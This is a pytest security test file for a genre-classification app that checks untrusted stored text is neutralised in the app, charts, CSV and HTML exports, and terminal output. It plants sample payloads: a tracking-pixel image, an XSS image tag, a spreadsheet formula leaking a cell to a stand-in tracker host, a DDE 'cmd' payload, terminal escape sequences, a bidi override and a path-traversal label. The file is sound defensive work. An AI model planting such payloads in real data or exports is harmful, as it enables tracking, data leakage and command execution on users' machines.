"""Trust, round 2, family "text" (issue 23): stored text is untrusted wherever it goes.

An artist, genre folder, dataset name, track id or run label is whatever a dataset's files and
metadata say. Rendered in the app it must not become markup (a markdown image is a tracking
pixel every visitor's browser fetches); written for a spreadsheet it must not become a formula;
printed to a terminal it must not become an escape sequence; a bidi override must not reorder
what a person reads; a label with a trailing newline must not pass the label rule.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import numpy as np
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from genre_core import untrusted
from genre_core.app import charts, classify, state
from genre_core.app import queries as q
from genre_core.store import open_store
from tests.helpers import CHROMIUM, launch_chromium, open_app, serving_app

ROOT = Path(__file__).resolve().parent.parent
APP = ROOT / "app.py"
PIXEL = "![x](http://tracker.example/p.png)"  # a markdown image: a request to tracker.example
LINK = "<a href='http://tracker.example/'>click</a>"
RTLO = "evil\u202egpj.exe"  # shown as "evilexe.jpg" where the override is honoured
FORMULA = '=HYPERLINK("http://tracker.example/?leak="&A1,"open")'
ESCAPES = "name\x1b]0;owned\x07\x1b[2J"  # retitles the terminal, clears the screen
text_case = pytest.mark.trust  # shorthand below: text_case("text", harm)


# -- helpers -----------------------------------------------------------------------------------

def _plant(db: Path, sql: str, *params) -> None:
    with duckdb.connect(str(db)) as con:
        con.execute(sql, list(params))


_app = open_app


def _page(at: AppTest, page: str) -> AppTest:
    at = at.switch_page(f"pages/{page}.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _markdown_sources(at: AppTest) -> list[str]:
    """Every string the page hands to streamlit's markdown renderer: bodies and labels."""
    sources = []
    for kind in ("markdown", "caption", "title", "subheader", "header", "info", "warning", "error",
                 "success", "toast"):
        sources += [str(e.value) for e in getattr(at, kind, [])]
    for kind in ("button", "selectbox", "multiselect", "expander", "text_input", "radio", "metric"):
        for e in getattr(at, kind, []):
            sources += [str(getattr(e, "label", "") or ""), str(getattr(e, "help", "") or "")]
    return sources


def _no_live_markup(at: AppTest, raw: str) -> None:
    """`raw` (as planted) appears nowhere as live markdown, and its escaped form is shown."""
    sources = _markdown_sources(at)
    assert not [s for s in sources if raw in s], "planted markup rendered as markdown"
    assert any(untrusted.markdown(raw) in s for s in sources), "the planted text is not shown at all"


def _run_and_track(app_db):
    run = app_db["ten_runs"][0]
    preds = q.predictions(app_db["db"], run)
    return run, preds


# -- rendered in the app -----------------------------------------------------------------------

@text_case("text", "security")
def test_an_artist_name_is_no_image_on_the_track_page(monkeypatch, app_db, writable_app_db):
    run, preds = _run_and_track(app_db)
    track = preds.track_id.iloc[0]
    _plant(writable_app_db, "UPDATE tracks SET artist = ? WHERE track_id = ?", PIXEL, track)
    at = _page(_app(monkeypatch, writable_app_db, **{state.RUN: run, state.TRACK: (app_db["ten_id"], track)}),
               "track")
    _no_live_markup(at, PIXEL)


@text_case("text", "security")
def test_an_artist_name_is_no_image_on_the_faults_page(monkeypatch, app_db, writable_app_db):
    run = app_db["ten_runs"][0]
    groups = q.duplicate_groups(app_db["db"], app_db["ten_id"])
    members = groups[groups.group_id == groups.group_id.iloc[0]].track_id.tolist()
    _plant(writable_app_db, f"UPDATE tracks SET artist = ? WHERE track_id IN ({', '.join('?' * len(members))})",
           PIXEL, *members)
    at = _page(_app(monkeypatch, writable_app_db, **{state.RUN: run}), "faults")
    _no_live_markup(at, PIXEL)


@text_case("text", "security")
def test_a_genre_label_is_no_image_on_the_confusion_page(monkeypatch, app_db, writable_app_db):
    run, preds = _run_and_track(app_db)
    wrong = preds[~preds.correct].iloc[0]
    evil = f"{wrong.label}{PIXEL}"
    _plant(writable_app_db, "UPDATE predictions SET label = ? WHERE label = ?", evil, wrong.label)
    _plant(writable_app_db, "UPDATE tracks SET label = ? WHERE label = ?", evil, wrong.label)
    at = _app(monkeypatch, writable_app_db, **{state.RUN: run})
    at.session_state["genrelens.confusion_cell"] = (run, "test", evil, wrong.predicted)
    _no_live_markup(_page(at, "confusion"), evil)


@text_case("text", "security")
def test_a_dataset_name_is_no_image_on_the_confusion_and_compare_pages(monkeypatch, app_db, writable_app_db):
    run = app_db["ten_runs"][0]
    evil = f"ten{PIXEL}"
    _plant(writable_app_db, "UPDATE datasets SET name = ? WHERE dataset_id = ?", evil, app_db["ten_id"])
    at = _app(monkeypatch, writable_app_db, **{state.RUN: run})
    _no_live_markup(_page(at, "confusion"), evil)
    _no_live_markup(_page(at, "compare"), evil)


@text_case("text", "security")
def test_a_track_id_is_no_image_in_the_track_title(monkeypatch, app_db, writable_app_db):
    run, preds = _run_and_track(app_db)
    track = preds.track_id.iloc[0]
    evil = f"t{PIXEL}"
    for table in ("tracks", "predictions", "segment_predictions", "attributions", "embeddings"):
        _plant(writable_app_db, f"UPDATE {table} SET track_id = ? WHERE track_id = ?", evil, track)
    at = _page(_app(monkeypatch, writable_app_db, **{state.RUN: run, state.TRACK: (app_db["ten_id"], evil)}),
               "track")
    assert not [s for s in _markdown_sources(at) if PIXEL in s]
    assert at.title[0].value == f"Track {untrusted.markdown(evil)}"


@text_case("text", "security")
def test_a_stored_load_error_is_no_image_on_the_track_page(monkeypatch, app_db, writable_app_db):
    run, preds = _run_and_track(app_db)
    track = preds.track_id.iloc[0]
    error = f"cannot decode {PIXEL}"
    _plant(writable_app_db, "UPDATE tracks SET status = 'unreadable', error = ? WHERE track_id = ?", error, track)
    at = _page(_app(monkeypatch, writable_app_db, **{state.RUN: run, state.TRACK: (app_db["ten_id"], track)}),
               "track")
    _no_live_markup(at, PIXEL)


@text_case("text", "security")
def test_a_search_echoed_on_the_map_is_text(monkeypatch, app_db):
    at = _app(monkeypatch, app_db["db"], **{state.RUN: app_db["ten_runs"][0]})
    at = _page(at, "map")
    at.text_input(key="map_search").input(PIXEL).run()
    assert not at.exception
    _no_live_markup(at, PIXEL)


# -- chart labels --------------------------------------------------------------------------------

def _cells(classes: list[str]) -> pd.DataFrame:
    rows = [dict(label=t, predicted=p, n=1 + (t == p), rate=0.5, row_total=3, true_index=i + 1, pred_index=j + 1)
            for i, t in enumerate(classes) for j, p in enumerate(classes)]
    return pd.DataFrame(rows)


@text_case("text", "security")
def test_a_genre_with_a_link_is_text_on_the_confusion_axes():
    fig = charts.confusion_matrix(_cells(["rock", LINK]))
    ticks = list(fig.layout.xaxis.ticktext) + list(fig.layout.yaxis.ticktext)
    assert not any("<a" in t for t in ticks)
    assert fig.data[1].customdata[2][0] == LINK  # a click still reports the genre as stored


@text_case("text", "security")
def test_a_bidi_override_cannot_reorder_a_genre_on_the_confusion_axes():
    fig = charts.confusion_matrix(_cells(["rock", RTLO]))
    ticks = list(fig.layout.xaxis.ticktext) + list(fig.layout.yaxis.ticktext)
    assert "evilgpj.exe" in ticks and not any("\u202e" in t for t in ticks)


@text_case("text", "security")
def test_map_hover_shows_a_track_id_as_text_and_reports_it_raw():
    points = pd.DataFrame(dict(track_id=["<img src=x onerror=alert(1)>", "b"], label=[LINK, "pop"],
                               predicted=["pop", "pop"], confidence=[0.9, 0.8], fault=["none", "none"],
                               outcome=["wrong", "correct"], x=[0.0, 1.0], y=[0.0, 1.0]))
    fig = charts.embedding_map(points, "outcome", ["pop", LINK])
    trace = next(t for t in fig.data if "<img" in str(t.customdata[0][0]))
    assert trace.customdata[0][0] == "<img src=x onerror=alert(1)>"  # what a click reports
    shown = [str(v) for row in trace.customdata for v in row[1:]]
    assert not any("<img" in v or "<a " in v for v in shown)


@text_case("text", "security")
def test_per_genre_bars_show_genres_as_text():
    frame = pd.DataFrame(dict(genre=[LINK, RTLO], precision=[0.5, 0.5], recall=[0.5, 0.5], f1=[0.5, 0.5]))
    fig = charts.per_genre_bars(frame)
    categories = [str(x) for trace in fig.data for x in trace.x]
    assert not any("<a" in c or "\u202e" in c for c in categories)


# -- written for other programs ----------------------------------------------------------------

def _export_csv(writable_app_db, tmp_path, run) -> Path:
    from genre_core.runs.export import export_run

    out = tmp_path / "export"
    export_run(open_store(writable_app_db), run, out, fmt="csv")
    return out


@text_case("text", "security")
def test_a_csv_export_does_not_hand_a_spreadsheet_a_formula(app_db, writable_app_db, tmp_path):
    run, preds = _run_and_track(app_db)
    _plant(writable_app_db, "UPDATE tracks SET artist = ? WHERE track_id = ?", FORMULA, preds.track_id.iloc[0])
    out = _export_csv(writable_app_db, tmp_path, run)
    with open(out / "tracks.csv", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert FORMULA not in cells and "'" + FORMULA in cells


@text_case("text", "security")
def test_a_csv_export_neutralises_a_genre_starting_with_a_sign(app_db, writable_app_db, tmp_path):
    run, preds = _run_and_track(app_db)
    label = preds.label.iloc[0]
    _plant(writable_app_db, "UPDATE predictions SET label = '-2+3*cmd' WHERE run_id = ? AND label = ?", run, label)
    out = _export_csv(writable_app_db, tmp_path, run)
    with open(out / "predictions.csv", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "-2+3*cmd" not in cells and "'-2+3*cmd" in cells


@text_case("text", "security")
def test_projector_metadata_keeps_one_row_per_vector_and_no_formula(app_db, writable_app_db, tmp_path):
    from genre_core.runs.export import export_run

    run, store = app_db["toy_run"], open_store(writable_app_db)
    ids = store.predictions(run)["track_id"].unique()
    store.replace_run_rows(run, {"embeddings": pd.DataFrame(
        {"track_id": ids, "kind": "penultimate", "vector": [[0.5] * 4] * len(ids)})})
    evil = "@SUM(1+1)\tx\ny"
    _plant(writable_app_db, "UPDATE predictions SET label = ? WHERE run_id = ? AND track_id = ?", evil, run, ids[0])
    export_run(open_store(writable_app_db), run, tmp_path / "tb", fmt="tensorboard")
    lines = (tmp_path / "tb" / "metadata.tsv").read_text().splitlines()
    vectors = (tmp_path / "tb" / "vectors.tsv").read_text().splitlines()
    assert len(lines) == len(vectors) + 1  # a header, then one row per vector
    cells = [c for line in lines for c in line.split("\t")]
    assert not any(c.startswith("@") for c in cells)


def _timeline(classes):
    from genre_core.live.timeline import WindowPrediction, segment

    preds = [WindowPrediction(i * 1.5, i * 1.5 + 3, np.array([0.8, 0.2]) if i < 3 else np.array([0.1, 0.9]))
             for i in range(6)]
    return preds, segment(preds, classes)


@text_case("text", "security")
def test_a_classify_timeline_csv_neutralises_genre_headers_and_cells(tmp_path):
    from genre_core.live.timeline import write_timeline

    classes = ["=1+1", "rock"]
    preds, sections = _timeline(classes)
    out = write_timeline(preds, sections, classes, out=tmp_path / "song.csv")
    rows = list(csv.reader(out.open(newline="")))
    assert "=1+1" not in rows[0] and "'=1+1" in rows[0]
    assert all(not c.startswith("=") for row in rows[1:] for c in row)


@text_case("text", "security")
def test_the_classify_pages_download_neutralises_genres():
    from genre_core.live.timeline import timeline_frame

    classes = ["+cmd|' /C calc'!A0", "rock"]
    preds, sections = _timeline(classes)
    text = classify.timeline_csv(timeline_frame(preds, classes, sections))
    cells = [c for row in csv.reader(text.splitlines()) for c in row]
    assert classes[0] not in cells and "'" + classes[0] in cells


@text_case("text", "security")
def test_the_html_report_strips_a_bidi_override(app_db, writable_app_db, tmp_path):
    from genre_core.runs.report import write_report

    run, preds = _run_and_track(app_db)
    label = preds.label.iloc[0]
    for table in ("predictions", "tracks"):
        _plant(writable_app_db, f"UPDATE {table} SET label = ? WHERE label = ?", RTLO, label)
    _plant(writable_app_db, "UPDATE predictions SET predicted = ? WHERE predicted = ?", RTLO, label)
    _plant(writable_app_db, "UPDATE runs SET classes = list_transform(classes, lambda g: CASE WHEN g = ? THEN ? ELSE g END)",
           label, RTLO)
    out = tmp_path / "report.html"
    write_report(open_store(writable_app_db), run, out, n_examples=1)
    page = out.read_text(encoding="utf-8")
    assert "\u202e" not in page and "evilgpj.exe" in page


def _cli(*args, db) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "training", *args, "--db", str(db)], capture_output=True,
                          text=True, cwd=ROOT, timeout=300, env={**os.environ, "TQDM_DISABLE": "1"})


@text_case("text", "security")
def test_a_dataset_name_cannot_send_escape_sequences_to_the_terminal(writable_app_db, app_db):
    _plant(writable_app_db, "UPDATE datasets SET name = ? WHERE dataset_id = ?", ESCAPES, app_db["ten_id"])
    out = _cli("datasets", db=writable_app_db)
    assert out.returncode == 0, out.stderr
    assert "name]0;owned" in out.stdout and "\x1b" not in out.stdout and "\x07" not in out.stdout


@text_case("text", "security")
def test_a_model_label_cannot_send_escape_sequences_to_the_terminal(writable_app_db):
    _plant(writable_app_db, "UPDATE runs SET model = ? WHERE run_id = (SELECT min(run_id) FROM runs)", ESCAPES)
    out = _cli("runs", db=writable_app_db)
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout


@text_case("text", "wrong")
def test_an_import_label_with_a_trailing_newline_is_refused(app_db, writable_app_db, tmp_path):
    from genre_core.runs.imported import BadImport, import_predictions

    table = tmp_path / "p.csv"
    pd.DataFrame({"track_id": ["x"], "predicted": ["rock"]}).to_csv(table, index=False)
    with pytest.raises(BadImport, match="--model"):
        import_predictions(open_store(writable_app_db), "ten", table, model="cnn\n")


@text_case("text", "wrong")
def test_an_ensemble_label_must_be_safe_for_file_names(app_db, writable_app_db):
    from genre_core.runs.ensemble import ensemble

    store = open_store(writable_app_db)
    with pytest.raises(ValueError, match="--label"):
        ensemble(store, list(app_db["ten_runs"][:2]), label="../../evil\n")
    assert len(store.runs()) == len(open_store(app_db["db"], create=False).runs())  # nothing stored


@text_case("text", "security")
def test_every_response_of_the_app_forbids_images_from_elsewhere(app_db):
    import urllib.request

    with serving_app(app_db["db"]) as url:
        for path in ("/", "/track", "/_stcore/health"):
            with urllib.request.urlopen(url + path, timeout=10) as response:
                policy = response.headers.get("Content-Security-Policy", "")
            assert "img-src 'self' data: blob:" in policy and "default-src 'self'" in policy, path


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs /usr/bin/chromium (apt-get install -y chromium)")
@text_case("text", "security")
def test_no_visitor_browser_fetches_a_pixel_planted_in_an_artist_name(app_db, writable_app_db):
    """End to end: the artist of a track (and of a duplicate group's members) is a markdown
    image of tracker.example; a visitor opens Track and Faults; the browser requests nothing
    from that host, and the name is shown as text."""
    sync_api = pytest.importorskip("playwright.sync_api")
    from tests.test_browser import settle

    run, preds = _run_and_track(app_db)
    track = preds.track_id.iloc[0]
    groups = q.duplicate_groups(app_db["db"], app_db["ten_id"])
    planted = [track, *groups[groups.group_id == groups.group_id.iloc[0]].track_id]
    _plant(writable_app_db, f"UPDATE tracks SET artist = ? WHERE track_id IN ({', '.join('?' * len(planted))})",
           PIXEL, *planted)
    with serving_app(writable_app_db) as url, sync_api.sync_playwright() as p:
        browser = launch_chromium(p)
        tab = browser.new_page(viewport={"width": 1400, "height": 950})
        tab.set_default_timeout(60_000)
        requests: list[str] = []
        tab.on("request", lambda r: requests.append(r.url))
        tab.goto(url)
        tab.wait_for_selector("h1")
        settle(tab)
        tab.goto(f"{url}/faults")
        tab.wait_for_selector("h1")
        settle(tab)
        body = tab.inner_text("body")
        browser.close()
    assert not [r for r in requests if "tracker.example" in r]
    assert "![x](http://tracker.example/p.png)" in body  # shown as the text it is
